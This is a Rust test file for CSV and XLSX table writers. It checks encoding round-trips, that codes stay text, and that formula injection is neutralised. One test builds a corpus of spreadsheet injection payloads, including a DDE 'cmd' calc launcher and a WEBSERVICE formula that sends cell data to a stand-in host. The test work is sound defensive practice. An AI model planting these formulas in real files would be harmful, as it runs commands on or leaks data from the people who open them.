use super::*;
use calamine::{Data, Reader as _};
use std::io::Cursor;

fn head() -> SheetHead {
    SheetHead {
        title: "农牧户".into(),
        columns: vec![
            ColumnHead::text("区划代码"),
            ColumnHead::number("金额（元）"),
        ],
    }
}

fn rows() -> Vec<Vec<String>> {
    let row = |code: &str, amount: &str| vec![code.to_owned(), amount.to_owned()];
    vec![
        row("150623101201", "-12.50"),
        row("=1+1", ""),
        row("'a,\"b\"", "1234567890123456789"),
    ]
}

fn csv_of(encoding: Encoding) -> Vec<u8> {
    let mut writer = CsvWriter::new(Vec::new(), encoding);
    writer.begin(&head()).unwrap();
    rows().iter().for_each(|row| writer.row(row).unwrap());
    writer.finish().unwrap()
}

#[test]
fn sec_t31_a_code_does_not_become_a_number_and_a_text_not_a_formula_in_xlsx() {
    let mut writer = XlsxWriter::new();
    writer.notes("说明", &["示例".to_owned()]).unwrap();
    writer.begin(&head()).unwrap();
    rows().iter().for_each(|row| writer.row(row).unwrap());
    let mut out = Cursor::new(Vec::new());
    writer.save(&mut out).unwrap();
    let mut read = calamine::Xlsx::new(out).unwrap();
    assert_eq!(read.sheet_names(), ["说明", "农牧户"]);
    let range = read.worksheet_range("农牧户").unwrap();
    let cell = |row, column| range.get_value((row, column)).cloned();
    assert_eq!(cell(0, 0), Some(Data::String("区划代码".into())));
    assert_eq!(cell(1, 0), Some(Data::String("150623101201".into())));
    assert_eq!(cell(1, 1), Some(Data::Float(-12.5)));
    assert_eq!(cell(2, 0), Some(Data::String("=1+1".into())));
    let long = Some(Data::String("1234567890123456789".into()));
    assert_eq!(cell(3, 1), long, "a long number keeps every digit");
    assert!(read.worksheet_formula("农牧户").unwrap().is_empty());
}

#[test]
fn csv_reads_back_to_the_same_cells_in_both_encodings() {
    for (encoding, name) in [
        (Encoding::Utf8, encoding_rs::UTF_8),
        (Encoding::Gb18030, encoding_rs::GB18030),
    ] {
        let bytes = csv_of(encoding);
        let (text, _, broken) = name.decode(&bytes);
        assert!(!broken);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        assert_eq!(&reader.headers().unwrap()[0], "区划代码");
        let read: Vec<Vec<String>> = reader
            .records()
            .map(|record| {
                record
                    .unwrap()
                    .iter()
                    .map(|c| unguarded(c).to_owned())
                    .collect()
            })
            .collect();
        let mut expected = rows();
        expected[0][1] = "-12.50".into();
        assert_eq!(read, expected);
        assert!(text.contains("'=1+1") && text.contains("\"''a,"), "{text}");
    }
    assert!(csv_of(Encoding::Utf8).starts_with("\u{feff}".as_bytes()));
}

/// T31: what a spreadsheet would run, in every place of a table and in both formats.
#[test]
fn sec_t31_nothing_in_a_head_a_text_or_a_number_runs_when_a_table_is_opened() {
    let starts = [
        "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=",
    ];
    let tails = [
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://x.example\",\"点击\")",
        "WEBSERVICE(\"http://x.example/\"&A1)",
        "1+1",
        "SUM(A1:A9)*;2",
    ];
    let corpus: Vec<String> = starts
        .iter()
        .flat_map(|start| tails.iter().map(move |tail| format!("{start}{tail}")))
        .collect();
    assert_eq!(corpus.len(), 60);
    let head = |text: &str| SheetHead {
        title: "示例".into(),
        columns: vec![ColumnHead::text(text), ColumnHead::number("金额")],
    };
    for hostile in &corpus {
        let mut writer = CsvWriter::new(Vec::new(), Encoding::Utf8);
        writer.begin(&head(hostile)).unwrap();
        writer.row(&[hostile.clone(), hostile.clone()]).unwrap();
        let bytes = writer.finish().unwrap();
        let text = String::from_utf8(bytes).unwrap();
        let mut reader = csv::ReaderBuilder::new();
        let mut reader = reader
            .has_headers(false)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|record| {
                record
                    .unwrap()
                    .iter()
                    .map(str::to_owned)
                    .collect::<Vec<_>>()
            })
            .collect();
        assert_eq!(cells.len(), 4);
        for cell in cells.iter().filter(|cell| *cell != "金额") {
            assert!(cell.starts_with('\''), "{cell:?}");
            assert_eq!(unguarded(cell), hostile);
        }
    }
    let mut writer = XlsxWriter::new();
    writer.notes("说明", &corpus).unwrap();
    writer.begin(&head("=1+1")).unwrap();
    for hostile in &corpus {
        writer.row(&[hostile.clone(), hostile.clone()]).unwrap();
    }
    let mut out = Cursor::new(Vec::new());
    writer.save(&mut out).unwrap();
    let mut read = calamine::Xlsx::new(out).unwrap();
    for sheet in ["说明", "示例"] {
        assert!(read.worksheet_formula(sheet).unwrap().is_empty(), "{sheet}");
        let range = read.worksheet_range(sheet).unwrap();
        assert!(
            range
                .used_cells()
                .all(|(_, _, cell)| matches!(cell, Data::String(_)))
        );
    }
}

#[test]
fn a_row_without_a_table_is_refused() {
    let mut writer = CsvWriter::new(Vec::new(), Encoding::Utf8);
    assert!(matches!(writer.row(&[]), Err(WriteError::NoTable)));
}
